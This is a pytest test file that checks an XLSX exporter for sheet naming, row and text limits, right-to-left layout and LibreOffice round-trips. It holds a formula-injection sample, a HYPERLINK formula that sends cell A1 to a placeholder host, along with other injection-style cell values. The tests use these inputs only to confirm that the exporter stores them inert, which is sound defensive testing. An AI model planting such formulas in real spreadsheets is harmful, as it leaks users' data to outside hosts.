"""XLSX within the limits of Excel, read by openpyxl and, as people read it, by LibreOffice."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from exports.data import formats, xlsx
from exports.data.wanted import Layout
from exports.data.xlsx import MOST_CHARACTERS, MOST_NAME, is_right_to_left, sheet_name, shortened
from tests.support.tables import answers, opened, send

FORMULA = '=HYPERLINK("http://x/?"&A1,"ok")'


def book(engine: Engine, folder: Path, most_rows: int = xlsx.MOST_ROWS, **layout: Any) -> Path:
    target = folder / "herds.xlsx"
    with opened(engine, layout=Layout(**layout)) as source:
        for _ in xlsx.build(source, target, most_rows=most_rows):
            pass
    return target


def cells(file: Path, sheet: str) -> list[dict[str, Any]]:
    made = openpyxl.load_workbook(file)
    header, *rows = made[sheet].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_one_sheet_for_each_table_and_one_about_them(herds: Engine, tmp_path: Path) -> None:
    send(herds, "uuid:a", answers())
    file = book(herds, tmp_path)
    assert openpyxl.load_workbook(file).sheetnames == ["herds", "herd", "bell", "About"]
    row = cells(file, "herds")[0]
    assert (row["camp-n"], row["camp-price"], row["camp-place-Latitude"], row["KEY"]) == (3, 1.5, 35.7, "uuid:a")
    assert row["day"] == datetime(2026, 5, 1)  # noqa: DTZ001 - a workbook has no time zones
    assert [row["tone"] for row in cells(file, "bell")] == [1, 2, 3]
    about = dict(openpyxl.load_workbook(file)["About"].iter_rows(values_only=True))
    assert (about["Records"], about["Rows of herds-herd-bell"]) == (1, 3)


def test_nothing_in_a_workbook_is_a_formula_a_link_or_markup_of_its_own(herds: Engine, tmp_path: Path) -> None:
    for number, text in enumerate((FORMULA, "https://example.org", "<r><t>x</t></r>", "-5", "+98", "_x0041_", "\ttab")):
        send(herds, f"uuid:{number}", answers(remarks=text))
    file = book(herds, tmp_path, language="en")
    found = [row["Camp - Remarks"] for row in cells(file, "herds")]
    assert found[:2] == [FORMULA, "https://example.org"]
    assert found[2] == "<r><t>x</t></r> "
    assert found[3:5] == ["-5", "+98"]
    with zipfile.ZipFile(file) as made:
        sheets = b"".join(made.read(name) for name in made.namelist() if "/sheet" in name)
        assert b"<f>" not in sheets
        assert not [name for name in made.namelist() if "_rels/sheet" in name]
    assert any(str(cell.value).endswith("=Where-Latitude") for cell in openpyxl.load_workbook(file)["herds"][1]) is True


def test_rows_that_do_not_fit_go_on_in_a_further_sheet_and_the_file_says_so(herds: Engine, tmp_path: Path) -> None:
    for number in range(7):
        send(herds, f"uuid:{number}", answers())
    file = book(herds, tmp_path, most_rows=4)
    made = openpyxl.load_workbook(file)
    assert [name for name in made.sheetnames if name.startswith("herds")] == ["herds", "herds (2)", "herds (3)"]
    assert [row["KEY"] for name in ("herds", "herds (2)", "herds (3)") for row in cells(file, name)] == [
        f"uuid:{n}" for n in range(7)
    ]
    assert dict(made["About"].iter_rows(values_only=True))["herds goes on"] == "herds, herds (2), herds (3)"


def test_text_that_does_not_fit_is_cut_and_the_file_says_so(herds: Engine, tmp_path: Path) -> None:
    send(herds, "uuid:a", answers(remarks="x" * (MOST_CHARACTERS + 1)))
    file = book(herds, tmp_path)
    assert cells(file, "herds")[0]["camp-remarks"] == "x" * MOST_CHARACTERS
    assert 1 in [line[1] for line in openpyxl.load_workbook(file)["About"].iter_rows(values_only=True)]
    assert shortened("😀" * MOST_CHARACTERS) == "😀" * (MOST_CHARACTERS // 2)


@given(st.lists(st.text(max_size=40), max_size=8))
def test_names_of_sheets_are_what_excel_allows(wanted: list[str]) -> None:
    taken = {"history"}
    names = [sheet_name(text, taken) for text in wanted]
    assert len({name.lower() for name in names}) == len(names)
    for name in names:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= MOST_NAME
        assert not re.search(r"[\[\]:*?/\\]", name)
        assert name[0] not in "'=+-@"
        assert not name.endswith("'")


def test_sheets_of_persian_labels_run_from_right_to_left(herds: Engine, tmp_path: Path) -> None:
    assert openpyxl.load_workbook(book(herds, tmp_path, language="فارسی (fa)"))["herds"].sheet_view.rightToLeft
    assert not openpyxl.load_workbook(book(herds, tmp_path))["herds"].sheet_view.rightToLeft
    assert [is_right_to_left(name) for name in ("fa", "ckb", "English (en)", "", "a b c")] == [True, True, False, False, False]


def test_libreoffice_opens_it_and_shows_the_same(herds: Engine, tmp_path: Path) -> None:
    program = shutil.which("soffice")
    assert program, "LibreOffice is missing: sudo apt-get install libreoffice-calc-nogui"
    send(herds, "uuid:a", answers(remarks=FORMULA, n=-7, measures="fence lights"))
    send(herds, "uuid:b", answers(remarks="بره، شب\n_x0041_"))
    file = book(herds, tmp_path)
    own = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    convert = ["--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path), str(file)]
    done = subprocess.run([program, own, *convert], capture_output=True, text=True, timeout=120, check=True)
    assert not [line for line in done.stderr.splitlines() if "warn" in line.lower() and "javaldx" not in line], done.stderr
    with (tmp_path / "herds.csv").open(encoding="utf-8", newline="") as stream:
        first, second = csv.DictReader(stream)
    assert (first["camp-remarks"], first["camp-n"], first["day"]) == (FORMULA, "-7", "2026-05-01")
    assert second["camp-remarks"] == "بره، شب\n_x0041_"
    with opened(herds) as source:
        text = b"".join(formats.stream(source, formats.format_of("csv"), open, table="herds")).decode("utf-8-sig")  # type: ignore[arg-type]
    for shown, wanted in zip((first, second), csv.DictReader(io.StringIO(text, newline="")), strict=True):
        assert {name: _same(cell) for name, cell in shown.items()} == {
            name.removeprefix("'"): _same(cell.removeprefix("'")) for name, cell in wanted.items()
        }


def _same(cell: str) -> str | float:
    """A cell of either: a workbook does not tell 4 from 4.0."""
    try:
        return float(cell)
    except ValueError:
        return cell


@pytest.mark.parametrize("steps", [0, 1])
def test_a_workbook_that_is_given_up_leaves_nothing_open(herds: Engine, tmp_path: Path, steps: int) -> None:
    send(herds, "uuid:a", answers())
    folder = tmp_path / "own"
    folder.mkdir()
    with opened(herds) as source:
        writing = xlsx.build(source, folder / "x.xlsx")
        for _ in range(steps):
            next(writing)
        writing.close()  # type: ignore[attr-defined]
    del writing
    shutil.rmtree(folder)
    assert not folder.exists()
